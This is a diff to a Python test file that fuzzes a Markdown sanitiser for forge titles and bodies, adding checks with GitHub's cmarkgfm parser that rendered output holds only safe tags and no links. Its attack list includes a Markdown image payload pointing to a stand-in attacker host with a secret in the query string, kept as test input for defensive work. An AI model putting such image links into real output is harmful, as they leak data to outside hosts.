@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import importlib
+import importlib.util
 import re
 import unicodedata
+from html.parser import HTMLParser
 
 import pytest
 from hypothesis import example, given
@@ -12,6 +15,8 @@ from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
 from honk.forges.text import BODY_LIMIT, fit, sanitise, sanitise_title, units
+
+cmarkgfm = importlib.import_module("cmarkgfm") if importlib.util.find_spec("cmarkgfm") else None
 
 ATTACKS = [
     "![x](https://evil.example/?d=secret)",
@@ -51,7 +56,52 @@ def _flat(tokens: list[Token]) -> list[Token]:
     return [t for token in tokens for t in (token, *_flat(token.children or []))]
 
 
+ALLOWED = {
+    *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "pre", "code", "blockquote"),
+    *("table", "thead", "tbody", "tr", "th", "td", "em", "strong", "hr", "br"),
+}
+
+
+class _Page(HTMLParser):
+    """What a browser would get: the tags, and the words outside of code."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.words = ""
+        self._code = 0
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: object) -> None:
+        self.tags.add(tag)
+        self._code += tag in ("code", "pre")
+        self.words += "\n"
+
+    def handle_endtag(self, tag: str) -> None:
+        self._code -= tag in ("code", "pre")
+        self.words += "\n"
+
+    def handle_data(self, data: str) -> None:
+        self.words += "" if self._code else data
+
+
 def _assert_inert(text: str) -> None:
+    _assert_inert_for_commonmark(text)
+    if cmarkgfm is not None:  # GitHub's own parser
+        options = cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE | cmarkgfm.cmark.Options.CMARK_OPT_FOOTNOTES
+        page = _Page(cmarkgfm.github_flavored_markdown_to_html(text, options))
+        assert page.tags <= ALLOWED, text
+        assert not _LINK.search(page.words), text
+
+
+def test_githubs_own_parser_takes_part() -> None:
+    if cmarkgfm is None:
+        pytest.skip("the package cmarkgfm, GitHub's own Markdown parser, is not installed")
+    page = _Page(cmarkgfm.github_flavored_markdown_to_html("@x `@y` www.a.b"))
+    assert page.tags == {"p", "code", "a"} and "@y" not in page.words
+
+
+def _assert_inert_for_commonmark(text: str) -> None:
     tokens = _flat(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text))
     kinds = {token.type for token in tokens}
     assert not kinds & {"image", "link_open", "html_inline", "html_block"}, text
@@ -80,10 +130,11 @@ def test_a_title_is_one_short_line_without_anything_active(attack: str) -> None:
 
 
 fragments = st.sampled_from(
-    [*ATTACKS, "`", "``", "```", "~~~", "*", "**", "_", "[", "](", ")", "![", "<", ">", "<b>", "&", "#1",
-     "@a", "\n", "\n\n", "    ", "- ", "1. ", "> ", "# ", "|", "---", "\\", "$", "http://a.b", " ", "word",
-     "&#64;",
- "&#10;", "[x]: http://a.b\n", "List<String>", "é", "😀", "\u202e", "\t"]
+    [*ATTACKS, "`", "``", "```", "`` `", "~~~", "~~", "*", "**", "_", "[", "](", ")", "(", "![", "<", ">",
+     "<b>", "</b>", "List<String>", "&", "&amp;", "&#64;", "&#10;", "#", "#1", "12", "GH-", "@", "@a",
+     "http://a.b", "http:", "//a.b", "www.", "mailto:", "a.b", "[x]: http://a.b\n", "[^1]", "[^1]: x\n",
+     "\n", "\n\n", "\\\n", "\\", "    ", "- ", "1. ", "> ", "# ", "|", "---", "$", " ", "word", "é",
+     "\U0001f600", "\u202e", "\t"]
 )  # fmt: skip
 
 
